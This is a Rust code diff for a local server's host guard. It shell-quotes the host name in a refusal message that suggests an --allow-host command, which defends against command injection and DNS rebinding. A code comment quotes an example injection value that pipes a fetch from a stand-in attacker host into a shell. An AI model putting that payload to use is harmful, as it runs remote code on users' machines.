@@ -121,8 +121,11 @@ impl HostGuard {
     /// The refusal of a request addressed to `host`.
     fn refuse(&self, host: &str, aws_api: bool) -> Response {
         let name = host_name(host);
+        // Quoted for a shell: the name is the client's text, and the hint is a command a reader
+        // may paste (`--allow-host $(curl -s evil.example|sh)` must stay a string).
+        let quoted = shell_words::quote(&name);
         let message = format!(
-            "this server answers requests addressed to localhost or an IP address, not to '{name}' (a web page can point its own name at 127.0.0.1 to reach a local server: DNS rebinding); if you reach it by that name on purpose, start it with --allow-host {name} (or SFN_LOCAL_ALLOW_HOSTS={name})"
+            "this server answers requests addressed to localhost or an IP address, not to {name:?} (a web page can point its own name at 127.0.0.1 to reach a local server: DNS rebinding); if you reach it by that name on purpose, start it with --allow-host {quoted} (or SFN_LOCAL_ALLOW_HOSTS={quoted})"
         );
         if let Ok(mut logged) = self.logged.lock() {
             if logged.len() < LOGGED_NAMES && logged.insert(name.clone()) {
